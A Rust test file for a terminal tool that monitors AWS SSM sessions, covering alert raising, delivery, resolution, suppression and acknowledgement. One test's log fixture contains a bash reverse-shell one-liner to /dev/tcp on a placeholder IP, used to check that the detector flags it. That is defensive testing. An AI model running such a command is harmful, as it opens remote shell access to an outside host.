#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
use std::sync::Arc;

use crossterm::event::KeyCode;

use super::{
    Delivered, Effect, Message, State,
    fixture::{at, detector, ended, scope, session, setup},
    tests::{key, press},
    update,
};
use crate::domain::{
    ActKind, ActOutcome, Alert, AlertDestination, AlertId, ArchiveObject, BY_HAND, Delivery, Fact, Failure,
    FailureClass, Loaded, LogEvent, Observation, Preferences, RuleId, Session, SessionDocument, SessionStatus,
    SessionType, Severity, Subject, Workflow,
};

/// A State that raises what is HIGH, and ends sessions by those rules; nothing was listed so far.
pub(super) fn raising(auto_terminate: &[&str]) -> State {
    let mut setup = setup();
    setup.raise_on = Some(Severity::High);
    setup.auto_terminate = auto_terminate.iter().map(|id| RuleId::from(*id)).collect();
    let mut state = State::new(super::fixture::board(), detector(), setup, at(0));
    update(&mut state, Message::Resize(200, 60), at(0));
    update(&mut state, Message::Loaded(Box::default()), at(0));
    state
}

/// A session under a document that is not on the allow list (DOC-01, CRITICAL).
pub(super) fn rogue(id: &str) -> Session {
    Session { document: Some("AWS-StartSSHSession".into()), ..session(id) }
}

pub(super) fn list(state: &mut State, sessions: Vec<Session>, seconds: i64) -> Vec<Effect> {
    let listing = Observation::Active { scope: scope(), sessions, at: at(seconds) };
    update(state, Message::Observed(listing), at(seconds))
}

pub(super) fn history(state: &mut State, sessions: Vec<Session>, seconds: i64) -> Vec<Effect> {
    let history = Observation::History { scope: scope(), sessions, since: at(-3600), at: at(seconds) };
    update(state, Message::Observed(history), at(seconds))
}

pub(super) fn raised(effects: &[Effect]) -> Vec<AlertId> {
    let raised = effects.iter().filter_map(|effect| match effect {
        Effect::KeepAlert { alert, raised: true, .. } => Some(alert.clone()),
        _ => None,
    });
    raised.collect()
}

pub(super) fn of<'a>(state: &'a State, session: &str, rule: &str) -> &'a Alert {
    let alerts = state.alerts.of(&Subject::Session(key(session)));
    let found = alerts.iter().find(|alert| alert.rule.as_str() == rule);
    found.unwrap_or_else(|| panic!("{rule} is no alert on {session}: {alerts:#?}"))
}

/// The destination has it.
fn deliver(state: &mut State, id: &AlertId, destination: AlertDestination) -> Vec<Effect> {
    let delivery = Delivery::Delivered { at: at(9), proof: "message 1".into() };
    let delivered = Delivered { alert: Some(id.clone()), act: None, destination, delivery };
    update(state, Message::Delivered(vec![delivered]), at(9))
}

#[test]
fn a_finding_is_raised_once_and_told_to_every_destination() {
    let mut state = raising(&[]);
    let effects = list(&mut state, vec![rogue("a")], 1);
    let ids = raised(&effects);
    let alert = of(&state, "a", "DOC-01");
    assert!(ids.contains(&alert.id));
    assert_eq!((alert.severity, &alert.workflow, alert.occurrence), (Severity::Critical, &Workflow::New, 1));
    let destinations: Vec<_> = alert.deliveries.keys().copied().collect();
    assert_eq!(
        destinations,
        [AlertDestination::MemberTopic, AlertDestination::CentralTopic, AlertDestination::Metrics]
    );
    assert!(raised(&list(&mut state, vec![rogue("a")], 6)).is_empty(), "it is not repeated");
    assert_eq!(state.view.alerts.rows.len(), state.alerts.all().count());
    assert!(state.alerts.unacknowledged().0 >= 1);
}

#[test]
fn what_is_lower_is_raised_by_hand_only() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let lower = state.alerts.all().any(|alert| alert.severity < Severity::High);
    assert!(!lower, "{:#?}", state.alerts.all().collect::<Vec<_>>());
}

#[test]
fn an_alert_is_notified_when_every_topic_has_it() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let id = of(&state, "a", "DOC-01").id.clone();
    deliver(&mut state, &id, AlertDestination::CentralTopic);
    assert_eq!(of(&state, "a", "DOC-01").workflow, Workflow::New);
    deliver(&mut state, &id, AlertDestination::Metrics);
    assert_eq!(of(&state, "a", "DOC-01").workflow, Workflow::New, "a metric tells nobody");
    let effects = deliver(&mut state, &id, AlertDestination::MemberTopic);
    assert_eq!(of(&state, "a", "DOC-01").workflow, Workflow::Notified);
    assert!(effects.contains(&Effect::KeepAlert { alert: id, raised: false, act: None }));
}

#[test]
fn it_is_resolved_when_the_cause_is_gone_and_reopened_when_it_returns() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let effects = list(&mut state, vec![session("a")], 6);
    let Workflow::Resolved { why, .. } = &of(&state, "a", "DOC-01").workflow else { panic!("not resolved") };
    assert!(why.contains("as it should be"), "{why}");
    assert!(raised(&effects).is_empty(), "nobody is told");
    assert!(!of(&state, "a", "DOC-01").is_unacknowledged());
    let effects = list(&mut state, vec![rogue("a")], 11);
    let alert = of(&state, "a", "DOC-01");
    assert_eq!((alert.workflow.clone(), alert.occurrence), (Workflow::New, 2));
    assert!(raised(&effects).contains(&alert.id) && alert.deliveries.values().all(Delivery::is_waiting));
}

/// The archive was looked into.
fn archive(state: &mut State, object: Option<ArchiveObject>, seconds: i64) -> Vec<Effect> {
    let object = Fact::known(object, "s3:ListObjectsV2", at(seconds));
    let seen = Observation::Archive { session: key("a"), object };
    update(state, Message::Observed(seen), at(seconds))
}

#[test]
fn an_archive_object_that_comes_late_resolves_its_alert() {
    let mut state = raising(&[]);
    update(&mut state, Message::Observed(super::tests::preferences(true)), at(0));
    let inputs = Preferences { log_group: "/ssm".into(), s3_bucket: "logs".into(), ..Preferences::default() };
    let document = SessionDocument { session_type: SessionType::StandardStream, inputs, content: Default::default() };
    let document = Fact::known(Some(document), "ssm:GetDocument", at(0));
    update(&mut state, Message::Observed(Observation::Preferences { scope: scope(), document }), at(0));
    list(&mut state, vec![session("a")], 1);
    history(&mut state, vec![ended("a", SessionStatus::Terminated, at(5))], 6);
    archive(&mut state, None, 7);
    let has_alert = |state: &State| {
        state.alerts.of(&Subject::Session(key("a"))).iter().any(|alert| alert.rule.as_str() == "LOG-07")
    };
    assert!(!has_alert(&state), "it may still come");
    archive(&mut state, None, 1200);
    update(&mut state, Message::Tick, at(1201));
    assert!(has_alert(&state), "{:#?}", state.board.sessions[&key("a")].judgement.findings);
    assert!(of(&state, "a", "LOG-07").is_unacknowledged());
    let object = ArchiveObject {
        bucket: "logs".into(),
        key: "a.log".into(),
        size: 100,
        modified_at: Some(at(1300)),
        encryption: None,
        kms_key: None,
    };
    archive(&mut state, Some(object), 1305);
    assert!(matches!(of(&state, "a", "LOG-07").workflow, Workflow::Resolved { .. }));
}

#[test]
fn unknown_does_not_resolve() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let failed = Failure {
        class: FailureClass::Unreachable,
        action: "ssm:DescribeSessions",
        code: None,
        message: "no answer".into(),
    };
    let failed = Observation::ListingFailed { scope: scope(), failure: failed, retry_at: at(20), at: at(10) };
    update(&mut state, Message::Observed(failed), at(200));
    assert!(of(&state, "a", "DOC-01").workflow.is_open());
}

#[test]
fn what_nobody_has_seen_outlives_its_session_and_what_was_seen_goes_with_it() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a"), rogue("b")], 1);
    let id = of(&state, "a", "DOC-01").id.clone();
    state.view.alerts.selected = Some(id.clone());
    press(&mut state, KeyCode::Char('2'), 2000);
    state.view.alerts.selected = Some(id);
    let effects = press(&mut state, KeyCode::Char('c'), 3000);
    assert!(matches!(effects.first(), Some(Effect::Record { .. })), "{effects:?}");
    assert!(of(&state, "a", "DOC-01").acknowledged.is_some());
    let over = |id: &str| Session { document: rogue(id).document, ..ended(id, SessionStatus::Terminated, at(5)) };
    history(&mut state, vec![over("a"), over("b")], 6);
    list(&mut state, vec![], 7);
    assert!(matches!(of(&state, "a", "DOC-01").workflow, Workflow::Resolved { .. }));
    assert!(of(&state, "b", "DOC-01").is_unacknowledged());
    // Long after: the board has forgotten it, the alert is there until somebody has seen it.
    list(&mut state, vec![], 4000);
    assert!(of(&state, "b", "DOC-01").is_unacknowledged());
    let id = of(&state, "b", "DOC-01").id.clone();
    state.view.alerts.selected = Some(id);
    press(&mut state, KeyCode::Char('c'), 4_001_000);
    assert!(matches!(of(&state, "b", "DOC-01").workflow, Workflow::Resolved { .. }));
}

/// An alert of a run before this one, decided by that fact.
fn of_before(fact: &str, rule: &str) -> Alert {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let mut alert = of(&state, "a", "DOC-01").clone();
    let subject = alert.subject.clone();
    alert.id = crate::domain::alert_id(rule, &subject, None);
    alert.rule = rule.into();
    alert.workflow = Workflow::Notified;
    let mut evidence = alert.evidence[0].clone();
    evidence.fact = fact.to_owned();
    alert.evidence = vec![evidence];
    alert
}

#[test]
fn what_only_an_earlier_run_saw_in_passing_is_not_resolved_by_a_restart() {
    // A stream that was forged, deleted or made anew leaves no trace for a run that was not there.
    for (fact, rule, stays) in [
        ("stream_change", "LOG-03", true),
        ("payload_mismatch", "LOG-05", true),
        ("role_change", "IAM-03", true),
        ("document", "DOC-01", false),
    ] {
        let mut state = raising(&[]);
        let loaded = Loaded { alerts: vec![of_before(fact, rule)], ..Loaded::default() };
        update(&mut state, Message::Loaded(Box::new(loaded)), at(0));
        list(&mut state, vec![session("a")], 1);
        list(&mut state, vec![session("a")], 6);
        assert_eq!(of(&state, "a", rule).workflow.is_open(), stays, "{rule}: {:?}", of(&state, "a", rule).workflow);
    }
}

#[test]
fn acknowledged_it_leaves_its_place_to_the_next() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a"), rogue("b")], 1);
    press(&mut state, KeyCode::Char('2'), 2000);
    press(&mut state, KeyCode::Char('g'), 2700);
    let count = state.alerts.unacknowledged().0;
    assert!(count >= 3, "{count}");
    for round in 0..count {
        press(&mut state, KeyCode::Char('c'), 4000 + i64::try_from(round).unwrap() * 1000);
    }
    assert_eq!(state.alerts.unacknowledged().0, 0, "one key each");
}

#[test]
fn an_alert_of_a_session_that_is_over_is_acknowledged_and_not_suppressed() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let over = Session { document: rogue("a").document, ..ended("a", SessionStatus::Terminated, at(5)) };
    history(&mut state, vec![over], 6);
    press(&mut state, KeyCode::Char('2'), 7000);
    state.view.alerts.selected = Some(of(&state, "a", "DOC-01").id.clone());
    press(&mut state, KeyCode::Char('z'), 9000);
    assert!(state.view.dialog.is_none());
    assert!(state.view.notice.as_ref().unwrap().text.contains("acknowledge"));
}

#[test]
fn memory_forgets_what_is_resolved_for_good_and_nothing_that_can_come_back() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    list(&mut state, vec![session("a")], 6);
    let known = of(&state, "a", "DOC-01").clone();
    assert!(matches!(known.workflow, Workflow::Resolved { .. }));
    let of_gone = |number: usize| {
        let subject = Subject::Session(key(&format!("gone-{number}")));
        let workflow = match number {
            0 => Workflow::New,
            _ => Workflow::Resolved { at: at(100), why: "over".into() },
        };
        Alert { id: crate::domain::alert_id("DOC-01", &subject, None), subject, workflow, ..known.clone() }
    };
    let loaded = Loaded { alerts: (0..2500).map(of_gone).collect(), ..Loaded::default() };
    update(&mut state, Message::Loaded(Box::new(loaded)), at(10));
    update(&mut state, Message::Tick, at(11));
    assert_eq!(state.alerts.all().count(), 2000);
    assert!(of(&state, "gone-0", "DOC-01").workflow.is_open(), "what stands is never forgotten");
    // The oldest of all comes back: it is the second time, and its destinations are told.
    let effects = list(&mut state, vec![rogue("a")], 16);
    assert_eq!(of(&state, "a", "DOC-01").occurrence, 2);
    assert!(raised(&effects).contains(&known.id));
}

#[test]
fn suppressed_it_is_silent_until_the_time_is_over() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let id = of(&state, "a", "DOC-01").id.clone();
    press(&mut state, KeyCode::Char('2'), 2000);
    state.view.alerts.selected = Some(id.clone());
    press(&mut state, KeyCode::Char('z'), 3000);
    press(&mut state, KeyCode::Tab, 3500);
    update(&mut state, Message::Paste("known, CHG-1".into()), at(4));
    let effects = press(&mut state, KeyCode::Enter, 4500);
    let alert = of(&state, "a", "DOC-01");
    let Workflow::Suppressed { until, reason, .. } = &alert.workflow else { panic!("{alert:#?}") };
    assert_eq!((reason.as_str(), until.duration_since(at(4)).as_hours()), ("known, CHG-1", 4), "the second choice");
    assert!(!alert.is_unacknowledged());
    let act = state.acts.last().unwrap();
    assert_eq!((act.kind, act.target.as_str()), (ActKind::Suppress, format!("alert {id}").as_str()));
    assert!(effects.contains(&Effect::Record { act: act.id, alert: Some(id.clone()) }), "{effects:?}");
    list(&mut state, vec![rogue("a")], 3600);
    assert!(matches!(of(&state, "a", "DOC-01").workflow, Workflow::Suppressed { .. }));
    let effects = list(&mut state, vec![rogue("a")], 4 * 3600 + 10);
    assert_eq!(raised(&effects), [id]);
    assert!(of(&state, "a", "DOC-01").is_unacknowledged());
}

#[test]
fn what_is_typed_is_raised_too() {
    let mut state = raising(&[]);
    list(&mut state, vec![session("a")], 1);
    let message = serde_json::json!({"eventVersion": "1.0", "sessionId": "a", "runAsUser": "ssm-user",
        "sessionData": ["sh-5.2$ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]});
    let event = LogEvent { timestamp: at(5), ingested_at: at(5), message: message.to_string() };
    let events = vec![(key("a").id, vec![event])];
    let tailed = Observation::Tailed { scope: scope(), log_group: "/ssm".into(), events, at: at(5) };
    let effects = update(&mut state, Message::Observed(tailed), at(5));
    let alert = of(&state, "a", "CMD-16");
    assert!(raised(&effects).contains(&alert.id));
    assert_eq!(alert.evidence[0].fact, "command");
    assert!(alert.evidence[0].value.contains("/dev/tcp/"));
    assert!(!alert.deliveries.contains_key(&AlertDestination::Metrics), "the metric counts NON_COMPLIANT sessions");
}

#[test]
fn by_hand_the_worst_that_is_no_alert_is_raised_and_then_the_session_as_such() {
    let mut state = raising(&[]);
    state.alerts.raise_on = None;
    list(&mut state, vec![rogue("a")], 1);
    press(&mut state, KeyCode::Char('g'), 1500);
    let alert = |state: &mut State, ms: i64| {
        press(state, KeyCode::Char('a'), ms);
        update(state, Message::Paste("look at this".into()), at(2));
        press(state, KeyCode::Enter, ms + 700)
    };
    let effects = alert(&mut state, 2000);
    assert_eq!(of(&state, "a", "DOC-01").reason, "look at this");
    assert!(matches!(&effects[0], Effect::KeepAlert { raised: true, act: Some(1), .. }), "{effects:?}");
    let mut rules: Vec<String> = Vec::new();
    for round in 1..20 {
        alert(&mut state, 2000 + round * 2000);
        let all = state.alerts.of(&Subject::Session(key("a")));
        rules = all.iter().map(|alert| alert.rule.to_string()).collect();
        if rules.iter().filter(|rule| *rule == BY_HAND).count() == 2 {
            break;
        }
    }
    let by_hand = rules.iter().filter(|rule| *rule == BY_HAND).count();
    assert_eq!(by_hand, 2, "two by hand are two alerts: {rules:?}");
}

#[test]
fn nothing_is_raised_before_the_store_was_read_and_then_nothing_twice() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let mut known = of(&state, "a", "DOC-01").clone();
    known.workflow = Workflow::Notified;
    let mut setup = setup();
    setup.raise_on = Some(Severity::High);
    let mut again = State::new(super::fixture::board(), detector(), setup, at(0));
    assert!(raised(&list(&mut again, vec![rogue("a")], 20)).is_empty());
    let loaded = Loaded { alerts: vec![known], ..Loaded::default() };
    let effects = update(&mut again, Message::Loaded(Box::new(loaded)), at(21));
    let effects = [effects, list(&mut again, vec![rogue("a")], 26)].concat();
    let id = of(&again, "a", "DOC-01").id.clone();
    assert!(!raised(&effects).contains(&id), "it was raised in the run before");
    assert_eq!(of(&again, "a", "DOC-01").workflow, Workflow::Notified);
}

#[test]
fn who_ends_a_session_has_seen_its_alerts() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    press(&mut state, KeyCode::Char('g'), 1500);
    press(&mut state, KeyCode::Char('t'), 4000);
    update(&mut state, Message::Paste("INC-1".into()), at(5));
    press(&mut state, KeyCode::Enter, 5700);
    press(&mut state, KeyCode::Char('y'), 7000);
    let act = state.acts.last().unwrap().id;
    let outcome = ActOutcome::Done { took_ms: 900, proof: "History says Terminated".into() };
    update(&mut state, Message::ActProgress { act, step: 0, outcome }, at(8));
    assert!(!of(&state, "a", "DOC-01").is_unacknowledged());
}

#[test]
fn without_a_store_everything_that_acts_says_why() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let why = "the store is in use by process 4711";
    update(&mut state, Message::StoreRefused(Arc::from(why)), at(2));
    for (index, code) in ['t', 'a', 'c', 'z', 'e'].into_iter().enumerate() {
        let ms = 10_000 + i64::try_from(index).unwrap() * 2000;
        let effects = press(&mut state, KeyCode::Char(code), ms);
        assert!(effects.is_empty() && state.view.dialog.is_none(), "{code}: {effects:?}");
        let notice = state.view.notice.as_ref().unwrap();
        assert!(notice.text.contains(why) || code == 'x', "{code}: {}", notice.text);
    }
    assert!(state.view.banners.iter().any(|banner| banner.text.contains(why)));
}

#[test]
fn evidence_that_was_read_again_is_no_news() {
    let mut state = raising(&[]);
    list(&mut state, vec![rogue("a")], 1);
    let properties = Fact::known(None, "ssm:DescribeInstanceProperties", at(3));
    let nodes = vec![(session("a").target, properties)];
    update(&mut state, Message::Observed(Observation::Nodes { scope: scope(), nodes }), at(3));
    let nodes = vec![(session("a").target, Fact::known(None, "ssm:DescribeInstanceProperties", at(33)))];
    let effects = update(&mut state, Message::Observed(Observation::Nodes { scope: scope(), nodes }), at(33));
    assert!(effects.iter().all(|effect| !matches!(effect, Effect::KeepAlert { .. })), "{effects:?}");
}
